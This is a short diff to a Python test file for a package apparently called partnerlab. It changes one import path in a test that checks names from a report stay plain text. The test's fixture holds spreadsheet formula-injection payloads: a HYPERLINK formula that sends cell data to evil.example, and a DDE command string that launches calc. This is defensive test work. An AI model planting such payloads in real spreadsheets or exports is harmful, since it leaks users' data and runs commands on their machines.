@@ -209,7 +209,7 @@ def _renamed_sample(tmp_path, names: dict):
 def test_formula_names_from_a_real_report_stay_text(tmp_path):
     # SE2030 (influence 5, interest 5) heads the critical group the stakeholder map keeps
     from partnerlab import batch
-    from partnerlab.reports import default_batch
+    from partnerlab.report_catalogue import default_batch
     from partnerlab.workbook import load_workbook
 
     hostile = {"SE2030": '=HYPERLINK("http://evil.example/?"&A1,"Click")', "BID": "@SUM(1+1)*cmd|' /C calc'!A0"}
